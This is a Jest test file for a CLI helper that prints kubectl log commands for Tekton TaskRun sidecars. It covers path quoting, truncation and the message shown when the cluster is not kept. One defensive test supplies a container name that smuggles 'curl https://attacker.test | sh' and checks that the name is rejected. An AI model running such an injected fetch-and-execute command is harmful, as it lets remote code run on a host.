import { expect, test } from '@jest/globals';

import { sidecarLogLines } from '../../../../cli/follow/sidecar-logs.ts';
import type { TaskRun } from '../../../../shared/tekton/types.ts';

const startedAt = '2026-05-01T10:00:00Z';
const withSidecars = (task: string, ...states: object[]): TaskRun => ({
  apiVersion: 'tekton.dev/v1',
  kind: 'TaskRun',
  metadata: { name: `run-${task}`, namespace: 'ci', labels: { 'tekton.dev/pipelineTask': task } },
  spec: {},
  status: {
    podName: `run-${task}-pod`,
    sidecars: states.map((state, i) => ({ name: `db${i}`, container: `sidecar-db${i}`, ...state })),
  },
});
const ended = { terminated: { exitCode: 0, reason: 'Completed', startedAt, finishedAt: startedAt } };
const kept = { kubeconfigFile: '/tmp/a b', isKept: true };

test('each sidecar that started has the command that shows its log', () => {
  const neverStarted = { waiting: { reason: 'ImagePullBackOff' } };
  expect(sidecarLogLines([withSidecars('test', ended, { running: { startedAt } }, neverStarted)], [], kept)).toEqual([
    "test sidecar-db0, not shown: kubectl --kubeconfig '/tmp/a b' logs -n ci run-test-pod -c sidecar-db0",
    "test sidecar-db1, not shown: kubectl --kubeconfig '/tmp/a b' logs -n ci run-test-pod -c sidecar-db1",
  ]);
});

test('what was shown already has no line, and nothing has where there are no sidecars', () => {
  const failure = { cause: 'exit code 3', pod: 'run-test-pod', container: 'sidecar-db0' };
  expect(sidecarLogLines([withSidecars('test', ended)], [failure], kept)).toEqual([]);
  expect(sidecarLogLines([withSidecars('test')], [], kept)).toEqual([]);
});

test('what is no name gets into no command', () => {
  const odd = { ...ended, container: 'sidecar-db; curl https://attacker.test | sh' };
  expect(sidecarLogLines([withSidecars('test', odd)], [], kept)).toEqual([]);
});

test('of very many only some are named', () => {
  const lines = sidecarLogLines([withSidecars('test', ...Array<object>(8).fill(ended))], [], kept);
  expect([lines.length, lines.at(-1)]).toEqual([6, 'and 3 more sidecars']);
});

test('where the cluster ends with the command, no command is given that could not work', () => {
  expect(sidecarLogLines([withSidecars('test', ended)], [], { kubeconfigFile: '/tmp/k', isKept: false })).toEqual([
    'logs of sidecars are not shown; tektrace up keeps them for kubectl logs',
  ]);
});
